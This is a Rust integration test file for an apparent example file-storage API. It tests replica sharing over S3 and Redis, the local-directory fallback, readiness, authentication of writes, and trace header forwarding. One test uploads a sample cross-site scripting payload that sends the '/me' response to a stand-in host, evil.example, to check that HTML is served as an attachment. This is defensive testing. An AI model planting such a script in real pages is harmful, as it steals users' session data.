//! Files through the example: replicas share S3 and the metadata in Redis.

use std::time::{Duration, Instant};

use ebb_testkit::{FreezingProxy, RedisServer, S3Server, ServiceProcess, TempDir};
use reqwest::StatusCode;

const BIN: &str = env!("CARGO_BIN_EXE_example-api");

fn start(env: &[(&str, String)]) -> ServiceProcess {
    let mut env = env.to_vec();
    env.push(("EBB_SHUTDOWN_DELAY", "0s".to_owned()));
    ServiceProcess::start(BIN, &env)
}

fn data(len: usize) -> Vec<u8> {
    (0..len).map(|i| (i * 31 % 251) as u8).collect()
}

/// A session cookie of the built-in demo user (`name=value`).
async fn login(client: &reqwest::Client, service: &ServiceProcess) -> String {
    let body = serde_json::json!({"username": "demo", "password": "demo-password"});
    let response = client.post(service.url("/login")).json(&body).send().await.expect("login");
    assert_eq!(response.status(), StatusCode::OK, "login");
    let cookie = response.headers()["set-cookie"].to_str().expect("ascii");
    cookie.split(';').next().expect("name=value").to_owned()
}

async fn metric(client: &reqwest::Client, service: &ServiceProcess, prefix: &str) -> Option<f64> {
    let text = client.get(service.metrics_url()).send().await.ok()?.text().await.ok()?;
    text.lines().find_map(|line| line.strip_prefix(prefix)?.trim().parse().ok())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_uploaded_through_one_replica_is_served_by_another() {
    let s3 = S3Server::start(&["files"]);
    let redis = RedisServer::start();
    let mut env = s3.env("files");
    env.push(("REDIS_URL", redis.url()));
    let (a, b) = (start(&env), start(&env));
    let client = reqwest::Client::new();
    let body = data(3 << 20);

    let cookie = login(&client, &a).await;
    let put = client.put(a.url("/files/shared/data.bin")).header("cookie", &cookie);
    let created = put.body(body.clone()).send().await.expect("put");
    assert_eq!(created.status(), StatusCode::CREATED);
    assert!(created.headers().contains_key("ratelimit"), "the rate limiter wraps /files");
    let meta: serde_json::Value = created.json().await.expect("json");

    let head = client.head(b.url("/files/shared/data.bin")).send().await.expect("head");
    assert_eq!(head.headers()["x-content-sha256"], meta["sha256"].as_str().expect("sha256"));
    let got = client.get(b.url("/files/shared/data.bin")).send().await.expect("get");
    assert!(got.bytes().await.expect("body") == body);

    let routes = "http_requests_total{method=\"PUT\",route=\"/files/{*key}\",status=\"201\"}";
    assert_eq!(metric(&client, &a, routes).await, Some(1.0), "metrics use the route template");
    let uploaded = metric(&client, &a, "offload_bytes_total{direction=\"upload\"}").await;
    assert_eq!(uploaded, Some(body.len() as f64));
    let downloads = metric(&client, &b, "offload_operations_total{operation=\"download\",outcome=\"ok\"}").await;
    assert_eq!(downloads, Some(1.0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_s3_objects_go_to_a_local_directory_and_the_example_says_so() {
    let dir = TempDir::new("ebb-api-local");
    let service = start(&[("EBB_OFFLOAD_DIR", dir.path().display().to_string())]);
    let warning = service.log_line("in-process fallbacks");
    for said in ["object metadata", "objects (in", "(set AWS_BUCKET)"] {
        assert!(warning.contains(said), "{said:?} missing: {warning}");
    }
    let client = reqwest::Client::new();
    let cookie = login(&client, &service).await;
    let put = client.put(service.url("/files/local.txt")).header("cookie", &cookie).body("on disk").send().await;
    assert_eq!(put.expect("put").status(), StatusCode::CREATED);
    assert!(dir.path().join(".ebb/v").is_dir(), "versions are kept under .ebb/v in the directory");
    assert_eq!(
        client.get(service.url("/files/local.txt")).send().await.expect("get").text().await.expect("body"),
        "on disk"
    );
    let presign = client.post(service.url("/files/local.txt/download-url")).header("cookie", &cookie).send().await;
    let presign = presign.expect("post");
    assert_eq!(presign.status(), StatusCode::NOT_IMPLEMENTED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s3_down_is_reported_by_readiness_and_answered_with_503() {
    let mut s3 = S3Server::start(&["files"]);
    let service = start(&s3.env("files"));
    let client = reqwest::Client::new();
    let cookie = login(&client, &service).await;
    s3.stop();
    let put = client.put(service.url("/files/x.txt")).header("cookie", &cookie).body("x").send().await.expect("put");
    assert_eq!(put.status(), StatusCode::SERVICE_UNAVAILABLE);
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let readyz = client.get(format!("http://{}/readyz?verbose", service.metrics)).send().await.expect("readyz");
        assert_eq!(readyz.status(), StatusCode::OK, "the s3 check is advisory");
        if readyz.text().await.expect("body").contains("[!]s3 degraded") {
            break;
        }
        assert!(Instant::now() < deadline, "readiness never reported S3 down");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn offload_settings_join_the_other_configuration_errors() {
    let env = [("EBB_OFFLOAD_MAX_SIZE", "huge".to_owned()), ("EBB_HTTP_ADDR", "banana".to_owned())];
    let (exit, log) = ServiceProcess::run_to_exit(BIN, &env, Duration::from_secs(10));
    assert_eq!(exit.code, Some(78), "{log}");
    assert!(log.contains("EBB_OFFLOAD_MAX_SIZE=\"huge\"") && log.contains("EBB_HTTP_ADDR=\"banana\""), "{log}");
}

#[test]
fn a_demo_username_without_a_password_is_a_start_up_error() {
    for env in [
        vec![("EBB_DEMO_USERNAME", "ada".to_owned())],
        vec![("EBB_DEMO_USERNAME", "ada".to_owned()), ("EBB_DEMO_PASSWORD", String::new())],
        vec![("EBB_DEMO_PASSWORD", "secret-password".to_owned())],
    ] {
        let (exit, log) = ServiceProcess::run_to_exit(BIN, &env, Duration::from_secs(10));
        assert_eq!(exit.code, Some(78), "{env:?}: {log}");
        assert!(log.contains("EBB_DEMO_USERNAME") && log.contains("EBB_DEMO_PASSWORD"), "{log}");
        assert!(!log.contains("secret-password"), "the password was printed: {log}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn writes_need_an_identity_reads_do_not() {
    let dir = TempDir::new("ebb-api-auth");
    let secret = "files-test-secret-long-enough-0123456789abcdef";
    let service =
        start(&[("EBB_OFFLOAD_DIR", dir.path().display().to_string()), ("EBB_JWT_SECRET", secret.to_owned())]);
    let client = reqwest::Client::new();
    let url = service.url("/files/guarded.txt");
    // No identity: every kind of write is 401, and nothing is stored.
    let attempts = [
        client.put(&url).body("x"),
        client.delete(&url),
        client.post(service.url("/files/guarded.txt/upload-url")).json(&serde_json::json!({"size": 1})),
        client.post(service.url("/files/guarded.txt/multipart")),
        client.put(&url).header("cookie", "ebb_session=forged").body("x"),
        client.put(&url).bearer_auth("not.a.token").body("x"),
    ];
    for attempt in attempts {
        let response = attempt.send().await.expect("request");
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    }
    assert_eq!(client.get(&url).send().await.expect("get").status(), StatusCode::NOT_FOUND, "nothing was stored");
    // A session or a bearer token may write; anyone may read.
    let cookie = login(&client, &service).await;
    let put = client.put(&url).header("cookie", &cookie).body("by session").send().await.expect("put");
    assert_eq!(put.status(), StatusCode::CREATED);
    let exp = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).expect("clock").as_secs() + 60;
    let token = ebb_session::jsonwebtoken::encode(
        &ebb_session::jsonwebtoken::Header::new(ebb_session::jsonwebtoken::Algorithm::HS256),
        &serde_json::json!({"sub": "grace", "exp": exp}),
        &ebb_session::jsonwebtoken::EncodingKey::from_secret(secret.as_bytes()),
    )
    .expect("jwt");
    let put = client.put(&url).bearer_auth(&token).body("by token").send().await.expect("put");
    assert_eq!(put.status(), StatusCode::CREATED);
    assert_eq!(client.get(&url).send().await.expect("get").text().await.expect("body"), "by token");
    assert_eq!(client.delete(&url).bearer_auth(&token).send().await.expect("delete").status(), StatusCode::NO_CONTENT);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploaded_html_is_served_as_an_attachment() {
    let dir = TempDir::new("ebb-api-html");
    let service = start(&[("EBB_OFFLOAD_DIR", dir.path().display().to_string())]);
    let client = reqwest::Client::new();
    let cookie = login(&client, &service).await;
    let url = service.url("/files/page.html");
    let script = "<script>fetch('/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>";
    let put = client.put(&url).header("cookie", &cookie).header("content-type", "text/html").body(script);
    assert_eq!(put.send().await.expect("put").status(), StatusCode::CREATED);
    let got = client.get(&url).send().await.expect("get");
    assert_eq!(got.headers()["content-type"], "application/octet-stream");
    assert_eq!(got.headers()["content-disposition"], "attachment");
    assert_eq!(got.headers()["x-content-type-options"], "nosniff");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn store_calls_carry_the_request_id_and_trace_context() {
    let s3 = S3Server::start(&["files"]);
    let mut env = s3.env("files");
    // Every byte the service sends to S3, through a proxy in front of it.
    let proxy = FreezingProxy::start(s3.addr());
    env.retain(|(name, _)| *name != "AWS_ENDPOINT");
    env.push(("AWS_ENDPOINT", proxy.url()));
    let service = start(&env);
    let client = reqwest::Client::new();
    let cookie = login(&client, &service).await;
    let seen = |needle: &str| proxy.sent().contains(needle);

    // A control first: a request without trace headers sends none.
    let put = client.put(service.url("/files/plain.txt")).header("cookie", &cookie).body("x").send().await;
    let made_id = put.expect("put").headers()["x-request-id"].to_str().expect("ascii").to_owned();
    assert!(!seen("traceparent"), "no trace context was sent, none may be forwarded");
    assert!(seen(&format!("x-request-id: {made_id}")), "the id made by the server is forwarded");

    let traceparent = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
    let put = client
        .put(service.url("/files/traced.txt"))
        .header("cookie", &cookie)
        .header("x-request-id", "upload-42")
        .header("traceparent", traceparent)
        .header("tracestate", "vendor=1")
        .body("traced")
        .send()
        .await
        .expect("put");
    assert_eq!(put.status(), StatusCode::CREATED, "S3 accepts the signed request with the extra headers");
    let get = client.get(service.url("/files/traced.txt")).header("traceparent", traceparent).send().await;
    assert_eq!(get.expect("get").text().await.expect("body"), "traced");
    for needle in [&format!("traceparent: {traceparent}"), "tracestate: vendor=1", "x-request-id: upload-42"] {
        assert!(seen(needle), "{needle:?} never reached the store");
    }
}
